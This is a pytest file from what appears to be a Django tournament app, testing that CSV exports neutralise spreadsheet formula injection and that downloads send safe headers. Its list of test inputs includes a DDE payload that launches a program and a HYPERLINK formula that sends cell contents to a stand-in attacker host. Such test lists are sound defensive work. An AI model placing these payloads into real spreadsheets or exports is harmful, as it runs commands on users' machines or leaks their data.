"""What is taken away is no program: no cell is a formula, no name of a file leaves its header."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from tests.factories.house import House
from tests.security.test_access_table import LISTED, values_of
from tournament.rules.spreadsheets import harmless

pytestmark = pytest.mark.django_db

FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_made_a_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Anna Verdi", "12", "", "'quoted", "A=1", "É", "'t Hooft"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.one_database
@pytest.mark.parametrize("language", ["en", "it"])
def test_no_cell_of_a_report_is_a_formula(house: House, language: str) -> None:
    client = house.client("director")
    client.cookies["django_language"] = language
    typed = "\n".join(f'"{cell}";"{cell}"' for cell in ("=1+1", "@SUM(A1)", "+39", "-1", "  =2", "＝1+1"))
    response = client.post(
        f"/floor/{house.early.code}/import/",
        {"text": "name;club number\n" + typed, "what": "add", "do": "report"},
    )
    assert response.headers["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(StringIO(text), delimiter=";" if language == "it" else ","))
    assert len(rows) >= 6
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.strip()[:1] in tuple("=+-@＝＋－＠")] == []
    assert any(cell.startswith("'=") for cell in cells)


def test_every_download_says_what_it_is_and_how_it_is_called(house: House) -> None:
    client, values = house.client("director"), values_of(house)
    names = {}
    for address in LISTED:
        if (
            address.route.endswith(
                (".pdf", ".phh", ".phhs", ".ohh", ".svg", ".csv", ".xlsx", ".txt", ".json", ".py")
            )
            and "secret" not in address.arguments
            # Pictures in a page.
            and address.name not in ("tables:event_qr", "tables:draw_qr", "tables:public_hand_qr")
            # Read, not taken away.
            and address.name != "api:openapi-json"
        ):
            response = client.get(address.url(values))
            assert response.status_code == 200, address.name
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert not response.headers["Content-Type"].startswith("text/html")
            names[address.name] = response.headers["Content-Disposition"]
    assert len(names) >= 6
    assert all(disposition.isascii() and "\n" not in disposition for disposition in names.values())
